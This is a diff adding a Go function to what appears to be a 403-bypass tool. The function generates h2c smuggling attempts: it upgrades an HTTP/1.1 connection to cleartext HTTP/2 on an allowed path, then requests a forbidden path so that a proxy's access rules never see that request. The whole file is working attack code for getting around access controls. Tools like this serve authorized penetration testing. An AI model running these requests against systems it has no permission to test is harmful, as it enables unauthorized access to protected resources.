@@ -0,0 +1,57 @@
+package bypass
+
+import (
+	"github.com/ibrahimsql/bypass403/pkg/http"
+)
+
+// TestH2CSmuggling upgrades an HTTP/1.1 connection to cleartext HTTP/2 (h2c)
+// on a path the proxy allows, then requests the forbidden path over the
+// upgraded connection. A proxy that forwards the upgrade hands the connection
+// to the backend, so the second request never passes its path rules. The
+// upgrade is tried with and without the HTTP2-Settings header, which some
+// proxies and backends insist on. Results are reported with "(upgrade
+// forwarded)", and upgrades the server answered itself with "(upgrade
+// refused)" and the response to the upgrade request.
+func TestH2CSmuggling(baseURL string, config Config) ([]Attempt, error) {
+	var attempts []Attempt
+	origin, path, query, err := splitTarget(baseURL)
+	if err != nil {
+		return attempts, err
+	}
+	target := withQuery(path, query)
+
+	upgradePaths := []string{"/"}
+	if target != "/" {
+		// Some proxies only apply their rules to the first request
+		upgradePaths = append(upgradePaths, target)
+	}
+
+	for _, upgradePath := range upgradePaths {
+		for _, withSettings := range []bool{true, false} {
+			upgrade, err := newRequest("GET", origin, upgradePath, config)
+			if err != nil {
+				continue
+			}
+			upgrade.SetHeader("Upgrade", "h2c")
+			name := "h2c upgrade via " + upgradePath
+			if withSettings {
+				upgrade.SetHeader("HTTP2-Settings", http.H2CSettings())
+				upgrade.SetHeader("Connection", "Upgrade, HTTP2-Settings")
+				name += " with HTTP2-Settings"
+			} else {
+				upgrade.SetHeader("Connection", "Upgrade")
+			}
+
+			req, err := newRequest(config.method(), origin, target, config)
+			if err != nil {
+				continue
+			}
+			req.Proto = http.ProtoHTTP2
+			req.Upgrade = upgrade
+
+			attempts = append(attempts, Attempt{Request: req, Technique: name})
+		}
+	}
+
+	return attempts, nil
+}